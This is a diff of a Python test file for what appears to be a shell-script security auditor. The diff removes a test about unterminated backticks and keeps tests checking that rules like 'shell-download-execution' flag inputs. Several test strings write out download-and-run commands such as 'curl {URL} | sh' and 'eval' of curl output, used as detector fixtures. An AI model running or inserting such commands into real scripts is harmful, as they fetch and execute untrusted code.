@@ -196,14 +196,6 @@ def test_a_placeholder_does_not_hide_the_next_line() -> None:
     assert "shell-download-execution" in found(f"curl <url> {URL} | sh\n")
 
 
-def test_backticks_that_never_end_run_nothing_but_what_is_in_them_is_judged() -> None:
-    stray = 'export A="one"\n`\n# or, in a file:\nA="one"\n'
-    assert found(stray)["shell-substituted-command"].severity is Severity.WARN
-    assert audit(f"{stray}curl {URL} | sh\n").verdict is Verdict.FAIL
-    assert found(f"{stray}`\ncat commands.txt | sh\n")
-    assert found(f"`curl {URL}`\n")["shell-substituted-command"].severity is Severity.FAIL
-
-
 def test_broken_lines_are_read_one_by_one() -> None:
     rules = found(f'echo \'a\ncurl {URL} | sh\nb=$(curl {URL}); eval "$b"\n')
     assert {"audit-incomplete", "shell-download-execution"} <= set(rules)
